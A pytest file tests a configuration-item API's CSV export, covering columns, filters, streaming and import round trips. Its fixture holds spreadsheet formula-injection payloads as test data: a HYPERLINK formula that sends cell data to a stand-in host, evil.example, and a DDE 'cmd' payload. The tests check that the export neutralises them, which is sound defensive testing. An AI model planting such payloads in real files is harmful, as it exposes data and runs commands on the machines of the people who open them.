"""GET /api/v1/cis?format=csv: the columns, hostile cells neutralised, the list's filters, streaming,
and the round trip: export -> import dry run -> every row unchanged; export -> empty database -> the
same CIs. Both databases."""

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient

from app.core.config import Settings
from app.core.csv_cells import neutralise, restore
from app.integrations import csv_columns, csv_export
from app.main import create_app
from tests.conftest import Api, create_tokens, fresh_database

HOSTILE = {
    "name": "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "owner": "@ops",
    "tags": ["-x", "a,b", " padded", "plain"],
    "attributes": {"fqdn": "h1.example.com", "motd": "+cmd|' /C calc'!A0", "quoted": "'=already",
                   "tabbed": "\tx", "number_text": "42", "empty": "", "json_text": "{\"a\": 1}", "negative": -5,
                   "float": 1.5, "flag": True, "nested": {"k": [1, "two", None]}, "list": ["a", "b"],
                   "nothing": None, "leading_zero": "007", "spaces": " 42 "},
}


def make_estate(api) -> dict[str, dict]:
    """A few CIs of several classes with every kind of value a cell must carry exactly."""
    made = {
        "hostile": api.create_ci("server", HOSTILE["name"], owner=HOSTILE["owner"], tags=HOSTILE["tags"],
                                 environment="prod", criticality=1, attributes=HOSTILE["attributes"]),
        "vm": api.create_ci("virtual_machine", "vm-1", status="maintenance",
                            attributes={"fqdn": "vm-1.example.com", "hypervisor": "kvm", "cpu_count": 2}),
        "stale": api.create_ci("server", "old-1", status="stale", attributes={"serial_number": "SN-OLD"}),
        "service": api.create_ci("service", "shop", environment="prod", attributes={"service_id": "SVC-1", " outer spaces ": "kept"}),
    }
    return made


def export(api, query: str = "") -> str:
    response = api.get(f"/api/v1/cis?format=csv{query}")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return response.content.decode("utf-8")


def table(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_columns_and_neutralised_cells(api):
    made = make_estate(api)
    text = export(api, "&class=server")
    header = text[1:].split("\r\n", 1)[0].split(",")
    assert header == ["id", "class", "name", "status", "environment", "criticality", "owner", "tags",
                      "identifier.fqdn", "identifier.serial_number", "attribute.cpu_count", "attribute.empty",
                      "attribute.flag", "attribute.float", "attribute.hypervisor", "attribute.json_text",
                      "attribute.leading_zero", "attribute.list", "attribute.motd", "attribute.negative",
                      "attribute.nested", "attribute.nothing", "attribute.number_text", "attribute.quoted",
                      "attribute.spaces", "attribute.tabbed"]
    rows = {row["id"]: row for row in table(text)}
    assert set(rows) == {made["hostile"]["id"], made["vm"]["id"], made["stale"]["id"]}  # no service
    hostile = rows[made["hostile"]["id"]]
    assert {k: v for k, v in hostile.items() if v} == {
        "id": made["hostile"]["id"], "class": "server", "name": "'=HYPERLINK(\"http://evil.example/?\"&A1)",
        "status": "active", "environment": "prod", "criticality": "1", "owner": "'@ops",
        "tags": '["-x","a,b"," padded","plain"]', "identifier.fqdn": "h1.example.com",
        "attribute.motd": "'+cmd|' /C calc'!A0", "attribute.quoted": "''=already", "attribute.tabbed": "'\tx",
        "attribute.number_text": '"42"', "attribute.empty": '""', "attribute.json_text": '"{\\"a\\": 1}"',
        "attribute.negative": "'-5", "attribute.float": "1.5", "attribute.flag": "true",
        "attribute.nested": '{"k":[1,"two",null]}', "attribute.list": '["a","b"]', "attribute.nothing": "null",
        "attribute.leading_zero": "007", "attribute.spaces": '" 42 "'}
    # No cell a spreadsheet would run as a formula.
    assert not [cell for row in rows.values() for cell in row.values() if cell[:1] in csv_columns_starts()]
    assert [row["status"] for row in table(export(api, "&status=stale"))] == ["stale"]
    assert [row["name"] for row in table(export(api, "&attr.hypervisor=kvm"))] == ["vm-1"]
    refused = api.get("/api/v1/cis?format=csv&sort=name&limit=5")
    assert refused.status_code == 422 and [e["field"] for e in refused.json()["errors"]] == ["query.sort", "query.limit"]
    assert api.get("/api/v1/cis?format=csv&class=nope").status_code == 422
    assert api.get("/api/v1/cis?format=xml").status_code == 422


def csv_columns_starts() -> tuple[str, ...]:
    return ("=", "+", "-", "@", "\t", "\r")


def test_neutralising_is_undone_exactly():
    for text in ["=1", "''=1", "'=1", "'", "''", "-", "'-'", "plain", "'plain", "\r\n", "@", "+'", ""]:
        assert restore(neutralise(text)) == text
        assert not neutralise(text).startswith(csv_columns_starts())
    for value in ["42", "", "true", "null", "[1]", " 42", "007", "text", '"q"', 0, -1.25, False, None, [1, {"a": []}],
                  {"x": "y"}, "NaN", "1e400", "9" * 30]:
        assert csv_columns.decode_value(restore(neutralise(csv_columns.encode_value(value)))) == value
    for tags in [[], ["a"], ["a", "b"], ["a,b"], [" a"], ["[x"], ["x", "[y"]]:
        assert csv_columns.decode_tags(csv_columns.encode_tags(tags)) == tags


def test_export_streams_a_page_at_a_time():
    pages = [[{"id": n, "ci_class": "server", "name": f"h{n}", "status": "active", "environment": None,
               "criticality": None, "owner": None, "tags": [], "attributes": {"fqdn": f"h{n}.example.com"}}
              for n in range(start, start + 3)] for start in (0, 3)]
    chunks = list(csv_export.lines(csv_export.header(["fqdn"], {"fqdn"}), iter(pages)))
    assert len(chunks) == 3 and chunks[2] == "".join(f"{n},server,h{n},active,,,,,h{n}.example.com\r\n" for n in (3, 4, 5))


def test_round_trip_into_the_same_database_is_unchanged(api):
    make_estate(api)
    text = export(api)
    report = api.post("/api/v1/import?dry_run=true", content=text.encode(), headers={"Content-Type": "text/csv"}).json()
    assert report["counts"] == {"create": 0, "update": 0, "unchanged": 4, "error": 0}, report
    applied = api.post("/api/v1/import", content=text.encode(), headers={"Content-Type": "text/csv"}).json()
    assert applied["counts"]["unchanged"] == 4
    assert export(api) == text


COMPARED = ("class", "name", "status", "environment", "criticality", "owner", "tags", "attributes")


@pytest.fixture
def second_api(request, database_url, tmp_path):
    backend = "postgresql" if database_url.startswith("postgresql") else "sqlite"
    (tmp_path / "second").mkdir()
    databases = fresh_database(request, backend, tmp_path / "second")
    url = next(databases)
    app = create_app(Settings(database_url=url))
    with TestClient(app, raise_server_exceptions=False) as client:
        yield Api(client, create_tokens(app.state.engine))
    app.state.engine.dispose()
    next(databases, None)


def test_round_trip_into_an_empty_database_gives_the_same_cis(api, second_api):
    make_estate(api)
    text = export(api)
    response = second_api.post("/api/v1/import", content=text.encode(), headers={"Content-Type": "text/csv"})
    assert response.status_code == 200 and response.json()["counts"]["create"] == 4, response.text

    def estate(client) -> list[tuple]:
        items = client.get("/api/v1/cis?limit=100").json()["items"]
        return sorted(json.dumps([ci[field] for field in COMPARED], sort_keys=True) for ci in items)

    assert estate(second_api) == estate(api)


def test_cis_without_a_usable_identifier_round_trip_by_their_id(api):
    made = [api.create_ci("server", "hand-made", owner="ops", attributes={"rack": "R1"}),
            api.create_ci("service", "no-environment", attributes={"sla": "gold"}),
            api.create_ci("application", "no-instance-key", attributes={"version": "1.2"})]
    text = export(api)
    report = api.post("/api/v1/import?dry_run=true", content=text.encode(), headers={"Content-Type": "text/csv"}).json()
    assert report["counts"] == {"create": 0, "update": 0, "unchanged": 3, "error": 0}, report
    edited = text.replace(",ops,", ",web-team,").replace("no-environment,active,,,", "no-environment,active,,3,")
    applied = api.post("/api/v1/import", content=edited.encode(), headers={"Content-Type": "text/csv"})
    assert applied.status_code == 200, applied.text
    assert [(row["action"], row["ci"]) for row in applied.json()["rows"]] == [
        ("update", made[0]["id"]), ("update", made[1]["id"]), ("unchanged", made[2]["id"])], applied.text
    server, service, application = (api.get(f"/api/v1/cis/{ci['id']}").json() for ci in made)
    assert (server["owner"], service["criticality"], application["version"]) == ("web-team", 3, 1)
    assert len(api.get("/api/v1/cis?limit=100").json()["items"]) == 3


def test_an_exported_file_is_the_same_report_with_or_without_its_id_column(api, engine):
    """A row its identifiers identify is the same report whether the file carries the `id` column (an
    export imported back) or not: ingest confirms it by its fingerprint instead of deriving it again
    (100,000 unchanged rows re-imported at 4,300 rows/s when the id changed its bytes). A row only its id
    identifies keeps the id in its report (test_import: not confirmed as that CI without it)."""
    from sqlalchemy import select

    from app.models.discovery import CISource

    api.create_ci("server", "web-1", attributes={"fqdn": "web-1.example.com", "rack": "R1"})
    api.create_ci("server", "hand-made", attributes={"rack": "R2"})  # no identifier: its id pins it
    text = export(api)
    header, *lines = text[1:].splitlines()
    assert header.split(",")[0] == "id"
    without_id = "\n".join(line.split(",", 1)[1] for line in [header, *lines]) + "\n"

    def fingerprints() -> dict[str, str]:
        with engine.connect() as conn:
            return {str(ci_id): fingerprint for ci_id, fingerprint in conn.execute(
                select(CISource.ci_id, CISource.fingerprint).where(CISource.source == "import"))}

    # the web-1 row without the id column (the hand-made one is an error there: it has nothing else)
    report = api.post("/api/v1/import?all_or_nothing=false", content=without_id.encode(),
                      headers={"Content-Type": "text/csv"}).json()
    assert report["counts"] == {"create": 0, "update": 0, "unchanged": 1, "error": 1}, report
    before = fingerprints()
    assert len(before) == 1
    applied = api.post("/api/v1/import", content=text.encode(), headers={"Content-Type": "text/csv"}).json()
    assert applied["counts"] == {"create": 0, "update": 0, "unchanged": 2, "error": 0}, applied
    after = fingerprints()
    web = next(iter(before))
    assert after[web] == before[web]  # the same bytes: the same fingerprint, confirmed
    assert len(after) == 2  # the hand-made CI, reported for the first time
